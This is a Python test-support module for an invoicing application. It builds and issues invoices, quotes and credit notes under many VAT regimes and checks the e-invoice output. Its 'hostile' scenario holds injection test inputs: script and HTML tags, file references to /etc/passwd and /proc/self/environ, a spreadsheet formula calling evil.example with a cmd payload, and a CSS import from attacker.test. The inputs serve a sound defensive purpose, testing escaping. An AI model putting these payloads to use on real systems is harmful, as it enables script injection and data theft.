"""Issued documents of every kind Patron must render legally, and how the tests validate them.

Each scenario builds its drafts through the models and issues them with do_issue, as the
application does. einvoice_errors() runs Patron's validator (patron.billing.einvoice.validation) on a
file and, when ../shared/einvoice/validate.py is beside the project, that independent one as a
second opinion, which must reach the same verdict.
"""

import functools
import importlib.util
import os
from contextlib import contextmanager
from datetime import UTC, date, datetime, time
from decimal import Decimal
from pathlib import Path
from unittest import mock

from patron.billing.documents.drafting import do_credit_note, save_adjustments
from patron.billing.documents.issuing import do_issue
from patron.billing.documents.quotes import do_answer, do_deposit_invoice, do_final_invoice
from patron.billing.einvoice.validation import validate
from patron.billing.models import Adjustment, Document, Kind, Line
from patron.billing.rules.vat import Treatment
from patron.business.forms import ProfileForm
from patron.business.models import Business
from patron.business.profile import do_save_business
from patron.contacts.models import Contact

ROOT = Path(__file__).resolve().parents[2]
# The official examples and the broken ones (PROVENANCE.md there).
EXAMPLES = ROOT / "tests" / "data" / "einvoice"
# The independent validator, for a second opinion when it is there.
SECOND_OPINION = Path(
    os.environ.get("PATRON_EINVOICE_VALIDATOR")
    or ROOT.parent / "shared" / "einvoice" / "validate.py"
)
ARTIFACTS = ROOT / "test-artifacts" / "renderings"

# A French micro-entrepreneur, as typed into the profile form: no VAT number, a SIRET.
FRENCH_PROFILE = {
    "trading_name": "Studio Marin",
    "legal_name": "Julien Marin",
    "legal_form": "micro",
    "country": "FR",
    "street": "12 rue des Carmes",
    "postcode": "69002",
    "city": "Lyon",
    "email": "bonjour@studio-marin.example",
    "phone": "+33 6 12 34 56 78",
    "website": "",
    "vat_number": "",
    "company_number": "443 061 841 00047",
    "vat_regime": "franchise",
    "iban": "FR76 3000 6000 0112 3456 7890 189",
    "bic": "AGRIFRPP",
    "currency": "EUR",
    "payment_terms_days": 30,
    "document_language": "fr",
    "time_zone": "Europe/Paris",
    "default_hourly_rate": "60.00",
    "planned_hours_per_day": "7",
}


@functools.cache
def second_opinion():
    """The independent validator's module, or None when it is not beside the project."""
    if not SECOND_OPINION.is_file():
        return None
    spec = importlib.util.spec_from_file_location("einvoice_validate", SECOND_OPINION)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def einvoice_errors(path, *, peppol=True):
    """The errors Patron's validator finds in the file at `path`, one readable line each;
    the independent validator, when there, must pass or fail the file as Patron's does."""
    report = validate(path.read_bytes(), peppol=peppol)
    found = [f"{f.rule}: {f.message[:160]} @ {f.location}" for f in report.errors]
    other = second_opinion()
    if other is not None:
        theirs = other.validate(path, peppol=peppol)
        their_errors = [f["id"] for f in theirs["findings"] if f["flag"] in other.ERROR_FLAGS]
        assert theirs["ok"] == report.ok, (
            f"{path.name}: Patron's validator says {'pass' if report.ok else 'fail'} "
            f"({found}), the independent one the opposite ({their_errors})"
        )
    return found


def french_business(owner):
    form = ProfileForm(FRENCH_PROFILE)
    assert form.is_valid(), form.errors
    return do_save_business(owner, form)


def client(**fields):
    defaults = {"is_organisation": True, "is_client": True}
    return Contact.objects.create(**{**defaults, **fields})


def acme():
    return client(
        name="Acme SA",
        street="Avenue Louise 1",
        postcode="1050",
        city="Ixelles",
        country="BE",
        vat_number="BE0403170701",
        company_number="0403.170.701",
        email="compta@acme.example",
    )


def adjustment(code, reason, percent=None, amount=None, rate=None):
    """An unsaved discount (UNCL 5189 code) or charge (UNCL 7161 code) on the whole document."""
    return Adjustment(
        reason_code=code,
        reason=reason,
        percent=None if percent is None else Decimal(percent),
        amount=None if amount is None else Decimal(amount),
        vat_rate=None if rate is None else Decimal(rate),
    )


def draft(contact, lines, adjustments=(), **fields):
    """A draft of `lines`: (description, quantity, price, rate[, discount %[, unit]]), with
    its discounts and charges on the whole document (adjustment())."""
    document = Document.objects.create(client=contact, **fields)
    for position, (description, quantity, price, rate, *more) in enumerate(lines):
        line = Line(
            document=document,
            position=position,
            description=description,
            quantity=Decimal(quantity),
            unit_price=Decimal(price),
            vat_rate=Decimal(rate),
            discount_percent=Decimal(more[0] if more else "0"),
        )
        if len(more) > 1:
            line.unit = more[1]
        line.refresh_amounts(document.treatment).save()
    if adjustments:
        save_adjustments(document, list(adjustments))
    document.compute_totals()
    document.save()
    return document


def issue(owner, contact, lines, adjustments=(), **fields):
    return do_issue(owner, draft(contact, lines, adjustments, **fields))


def set_regime(**fields):
    Business.objects.update(**fields)


# Each scenario: (name, builder(owner) -> [issued documents]); the Belgian business exists.
def normal_single_rate(owner):
    return [issue(owner, acme(), [("Logo design", "1", "1200", "21")], language="fr")]


def with_brand_kit(owner):
    """The demo's brand kit: an SVG logo, Lora, teal and amber."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from patron.business.demo import LOGO
    from patron.business.forms import BrandForm

    brand = BrandForm(
        {"primary_colour": "#0f766e", "accent_colour": "#b45309", "typeface": "lora"},
        {"logo": SimpleUploadedFile("lumen.svg", LOGO, "image/svg+xml")},
        instance=Business.objects.get(),
    )
    assert brand.is_valid(), brand.errors
    do_save_business(owner, brand)


def several_rates(owner):
    with_brand_kit(owner)
    lines = [
        ("Website, design and build", "32", "85", "21", "0", "HUR"),
        ("Printed brochure (books rate)", "200", "1.35", "6"),
        ("Event catering coordination", "1", "450", "12", "0", "LS"),
    ]
    return [issue(owner, acme(), lines, language="en", buyer_reference="PO-2026-117")]


def discount_lines(owner):
    lines = [
        ("Workshop day", "2", "780", "21", "10", "DAY"),
        ("Follow-up calls", "3.5", "85.5", "21", "12.5", "HUR"),
        ("Travel", "120", "0.4269", "21"),
    ]
    return [issue(owner, acme(), lines, language="fr")]


def franchise_be(owner):
    set_regime(vat_regime="franchise")
    lines = [("Illustrations for the annual report", "6", "150", "0")]
    return [issue(owner, acme(), lines, treatment=Treatment.FRANCHISE, language="fr")]


def reverse_charge_nl(owner):
    nl = client(
        name="Grachten Media BV",
        street="Keizersgracht 100",
        postcode="1015 AA",
        city="Amsterdam",
        country="NL",
        vat_number="NL004495445B01",
        company_number="12345678",
    )
    lines = [("Brand identity, phase 1", "1", "4800", "21"), ("Revisions", "4", "85", "21")]
    return [issue(owner, nl, lines, treatment=Treatment.REVERSE_CHARGE, language="en")]


def reverse_charge_fr(owner):
    fr = client(
        name="Éditions du Rhône SAS",
        street="5 quai Saint-Antoine",
        postcode="69002",
        city="Lyon",
        country="FR",
        vat_number="FR96552100554",
        company_number="552 100 554",
    )
    lines = [("Mise en page d'un catalogue", "24", "70", "21", "0", "HUR")]
    return [issue(owner, fr, lines, treatment=Treatment.REVERSE_CHARGE, language="fr")]


def outside_eu_us(owner):
    us = client(
        name="Hudson Labs Inc.",
        street="350 Fifth Avenue",
        postcode="10118",
        city="New York",
        country="US",
        company_number="12-3456789",
        email="ap@hudson.example",
    )
    lines = [("UX audit of the onboarding flow", "5", "900", "0", "0", "DAY")]
    return [issue(owner, us, lines, treatment=Treatment.OUTSIDE_EU, language="en")]


def outside_eu_usd(owner):
    us = client(
        name="Pacific Apps LLC",
        street="1 Market Street",
        postcode="94105",
        city="San Francisco",
        country="US",
        company_number="98-7654321",
    )
    lines = [("Mobile app icons", "12", "95", "0"), ("Licence, worldwide", "1", "1500", "0")]
    return [issue(owner, us, lines, treatment=Treatment.OUTSIDE_EU, currency="USD", language="en")]


def reverse_charge_usd(owner):
    nl = client(
        name="Delta Robotics BV",
        street="Stationsplein 3",
        postcode="3511 ED",
        city="Utrecht",
        country="NL",
        vat_number="NL004495445B01",
    )
    lines = [("Technical illustrations", "10", "120", "21")]
    return [
        issue(owner, nl, lines, treatment=Treatment.REVERSE_CHARGE, currency="USD", language="en")
    ]


def outside_eu_ch(owner):
    ch = client(
        name="Alpenblick AG",
        street="Bahnhofstrasse 10",
        postcode="8001",
        city="Zürich",
        country="CH",
        vat_number="CHE-116.281.710 MWST",
    )
    lines = [("Packaging design", "1", "3200", "0")]
    return [issue(owner, ch, lines, treatment=Treatment.OUTSIDE_EU, language="fr")]


def deposit_and_final(owner):
    contact = acme()
    deposit = issue(
        owner,
        contact,
        [("Deposit: 30 % of quote Q-2026-0004", "1", "1500", "21")],
        is_deposit=True,
        language="fr",
    )
    final = issue(
        owner,
        contact,
        [("Website redesign", "1", "5000", "21"), ("Hosting, first year", "1", "240", "21")],
        prepaid=deposit.total_incl_vat,
        language="fr",
        service_start=deposit.issue_date.replace(day=1),
        service_end=deposit.issue_date,
    )
    return [deposit, final]


def credit_notes(owner):
    contact = acme()
    invoice = issue(owner, contact, [("Design", "10", "85", "21"), ("Hosting", "1", "120", "21")])
    full = issue(
        owner,
        contact,
        [("Design", "10", "85", "21"), ("Hosting", "1", "120", "21")],
        kind=Kind.CREDIT_NOTE,
        corrects=invoice,
        language="fr",
    )
    other = issue(owner, contact, [("Support", "8", "85", "21")], language="en")
    partial = issue(
        owner,
        contact,
        [("Support, two hours not worked", "2", "85", "21")],
        kind=Kind.CREDIT_NOTE,
        corrects=other,
        language="en",
    )
    return [invoice, full, other, partial]


def hostile(owner):
    contact = client(
        name='<script>alert(1)</script> "Evil" & Co',
        street="<b>1</b> rue <i>x</i>",
        postcode="1000",
        city="Bruxelles",
        country="BE",
        vat_number="BE0403170701",
        company_number="0403170701",
    )
    lines = [
        ('<img src="file:///etc/passwd"> <img src="https://example.com/x.png">', "1", "10", "21"),
        ('=HYPERLINK("http://evil.example","click") +cmd|\' /C calc\'!A0', "1", "10", "21"),
        ("Long " + "description, " * 75 + "end.", "1", "10", "21"),  # under the 1,000 allowed
        ("Unbreakable" + "x" * 300, "1", "10", "21"),
        ("Control \x01 characters \x0b and ünïcödé — “quotes” 😀", "1", "10", "21"),
    ]
    return [
        issue(
            owner,
            contact,
            lines,
            language="en",
            notes='<link rel="attachment" href="file:///proc/self/environ">',
            terms="<style>@import url(http://attacker.test/x.css);</style>",
            buyer_reference="<PO & 'ref'>",
        )
    ]


TWO_RATES = [
    ("Website design", "1", "2400", "21", "0", "LS"),
    ("Printed brochure (books rate)", "200", "1.35", "6"),
]


def discount_and_charge_two_rates(owner):
    """10 % off the lines of both rates, a fixed discount at 6 % and a travel fee at 21 %.

    21 %: 2,400.00 − 240.00 (10 %) + 45.00 (travel) = 2,205.00, VAT 463.05.
     6 %:   270.00 −  27.00 (10 %) − 20.00 (fixed)  =   223.00, VAT  13.38.
    Lines 2,670.00, discounts 287.00, charges 45.00: 2,428.00 excl. VAT, 476.43 VAT,
    2,904.43 incl. VAT."""
    adjustments = [
        adjustment("95", "Remise fidélité", percent="10"),
        adjustment("100", "Geste commercial sur la brochure", amount="20", rate="6"),
        adjustment("ABK", "Déplacement Bruxelles–Gand", amount="45", rate="21"),
    ]
    return [issue(owner, acme(), TWO_RATES, adjustments, language="fr")]


def quote_deposit_final_credit(owner):
    """A quote with a discount and a charge, accepted: its 30 % deposit invoice, its final
    invoice (which deducts the deposit and refers to it), and the final invoice credited."""
    adjustments = [
        adjustment("95", "Discount for a long-standing client", percent="5"),
        adjustment("ABK", "Travel to Ghent", amount="60", rate="21"),
    ]
    quote = issue(
        owner,
        acme(),
        TWO_RATES,
        adjustments,
        kind=Kind.QUOTE,
        language="en",
        deposit_percent=Decimal("30"),
    )
    do_answer(quote, accepted=True, name="Anna Peeters", terms_accepted=True)
    quote.refresh_from_db()
    deposit = do_issue(owner, do_deposit_invoice(owner, quote))
    final = do_issue(owner, do_final_invoice(owner, quote))
    credit = do_issue(owner, do_credit_note(owner, final, full=True))
    return [deposit, final, credit]


def usd_with_vat(owner):
    """A Belgian client invoiced in dollars with VAT: the VAT is stated in euros too.

    1,000.00 USD at 21 %: 210.00 USD of VAT; at 1 € = 1.0850 USD, 193.55 € (210 / 1.085 =
    193.548…)."""
    return [
        issue(
            owner,
            acme(),
            [("Logo design", "1", "1000", "21")],
            currency="USD",
            exchange_rate=Decimal("1.0850"),
            exchange_rate_date=date(2026, 12, 3),
            exchange_rate_source="ecb",
            language="en",
        )
    ]


def adjustments_without_vat(owner):
    """Discounts and charges under reverse charge (AE), outside the scope of VAT (O) and
    under the franchise (E): no rate but 0, and none at all outside the scope."""
    nl = client(
        name="Grachten Media BV",
        street="Keizersgracht 100",
        postcode="1015 AA",
        city="Amsterdam",
        country="NL",
        vat_number="NL004495445B01",
        company_number="12345678",
    )
    us = client(
        name="Hudson Labs Inc.",
        street="350 Fifth Avenue",
        postcode="10118",
        city="New York",
        country="US",
        company_number="12-3456789",
    )

    def adjustments():
        return [
            adjustment("95", "Early payment agreed", percent="3"),
            adjustment("AEM", "Project administration", amount="75", rate="21"),
        ]

    lines = [("Illustrations", "4", "450", "21")]
    made = [
        issue(owner, nl, lines, adjustments(), treatment=Treatment.REVERSE_CHARGE, language="en"),
        issue(owner, us, lines, adjustments(), treatment=Treatment.OUTSIDE_EU, language="en"),
    ]
    set_regime(vat_regime="franchise")
    made.append(
        issue(owner, acme(), lines, adjustments(), treatment=Treatment.FRANCHISE, language="fr")
    )
    return made


BELGIAN_SCENARIOS = {
    "normal-single-rate": normal_single_rate,
    "several-rates": several_rates,
    "discount-lines": discount_lines,
    "franchise-be": franchise_be,
    "reverse-charge-nl": reverse_charge_nl,
    "reverse-charge-fr": reverse_charge_fr,
    "reverse-charge-usd": reverse_charge_usd,
    "outside-eu-us": outside_eu_us,
    "outside-eu-usd": outside_eu_usd,
    "outside-eu-ch": outside_eu_ch,
    "deposit-and-final": deposit_and_final,
    "credit-notes": credit_notes,
    "hostile-input": hostile,
    "discount-and-charge-two-rates": discount_and_charge_two_rates,
    "quote-deposit-final-credit": quote_deposit_final_credit,
    "usd-with-vat": usd_with_vat,
    "adjustments-without-vat": adjustments_without_vat,
}


@contextmanager
def issuing_on(day):
    """Issue documents as if on `day`. do_issue dates a document from the clock, so the clock
    of the issuing module alone is set (payments and expenses are given their dates)."""
    from patron.billing.documents import issuing

    class Clock:
        @staticmethod
        def localdate():
            return day

        @staticmethod
        def now():
            return datetime.combine(day, time(12), tzinfo=UTC)

    with mock.patch.object(issuing, "timezone", Clock):
        yield


def accepted_quote(owner, contact, lines, percent="30", **fields):
    """An issued quote of `lines` asking a `percent` deposit, accepted by the client."""
    from patron.billing.documents.quotes import do_answer

    quote = issue(
        owner, contact, lines, kind=Kind.QUOTE, deposit_percent=Decimal(percent), **fields
    )
    do_answer(quote, accepted=True, name="Jo Peeters", terms_accepted=True)
    quote.refresh_from_db()
    return quote


def deposit_invoice(owner, quote, on):
    from patron.billing.documents.quotes import do_deposit_invoice

    with issuing_on(on):
        return do_issue(owner, do_deposit_invoice(owner, quote))


def final_invoice(owner, quote, on):
    from patron.billing.documents.quotes import do_final_invoice

    with issuing_on(on):
        return do_issue(owner, do_final_invoice(owner, quote))


def credit_note(owner, invoice, on, lines=None):
    """An issued credit note of `invoice`: in full, or of `lines` (as `draft` takes them)."""
    from patron.billing.documents.drafting import do_credit_note, save_lines

    note = do_credit_note(owner, invoice, full=lines is None)
    if lines is not None:
        save_lines(
            note,
            [
                Line(description=d, quantity=Decimal(q), unit_price=Decimal(p), vat_rate=Decimal(r))
                for d, q, p, r in lines
            ],
        )
    with issuing_on(on):
        return do_issue(owner, note)


def french_vat_business(owner):
    """The French profile, charging VAT; its client in Lyon."""
    french_business(owner)
    set_regime(vat_regime="normal", vat_number="FR44732829320", legal_form="sole_trader")
    return client(
        name="Lumière SARL",
        street="8 place Bellecour",
        postcode="69002",
        city="Lyon",
        country="FR",
        company_number="552 100 554 00013",
    )


def french_job_with_a_refunded_deposit(owner, lyon):
    """10,000.00 at 20 % with a 30 % deposit, a third of the deposit credited and refunded:

    - 10 Feb deposit invoice 3,000.00 + 600.00, paid 3,600.00 on 20 Feb;
    - 2 Mar credit note on it of 1,000.00 + 200.00, refunded 1,200.00 on 3 Mar;
    - 10 Mar final invoice 10,000.00 + 2,000.00 less the 2,400.00 left of the deposit:
      9,600.00 (8,000.00 + 1,600.00), paid on 2 Apr 2026."""
    from patron.billing.models import Payment
    from patron.billing.payments.recording import do_record_payment

    quote = accepted_quote(owner, lyon, [("Website", "1", "10000", "20")])
    deposit = deposit_invoice(owner, quote, date(2026, 2, 10))
    do_record_payment(
        owner, client=lyon, date=date(2026, 2, 20), amount="3600", documents=[deposit]
    )
    note = credit_note(owner, deposit, date(2026, 3, 2), [("Deposit, a third", "1", "1000", "20")])
    do_record_payment(
        owner,
        client=lyon,
        date=date(2026, 3, 3),
        amount="1200",
        direction=Payment.Direction.REFUNDED,
        documents=[note],
    )
    final = final_invoice(owner, quote, date(2026, 3, 10))
    do_record_payment(
        owner, client=lyon, date=date(2026, 4, 2), amount=final.amount_due, documents=[final]
    )
    return final


def franchise_fr(owner):
    french_business(owner)
    contact = client(
        name="Boulangerie Lumière SARL",
        street="8 place Bellecour",
        postcode="69002",
        city="Lyon",
        country="FR",
        company_number="552 100 554 00013",
        email="contact@lumiere.example",
    )
    person = client(
        is_organisation=False,
        first_name="Anne",
        last_name="Roux",
        street="3 rue Neuve",
        postcode="69001",
        city="Lyon",
        country="FR",
    )
    return [
        issue(
            owner,
            contact,
            [("Site vitrine", "1", "1800", "0"), ("Photos", "10", "25", "0")],
            treatment=Treatment.FRANCHISE,
            language="fr",
        ),
        issue(
            owner,
            person,
            [("Faire-part de naissance", "1", "180", "0")],
            treatment=Treatment.FRANCHISE,
            language="fr",
        ),
    ]
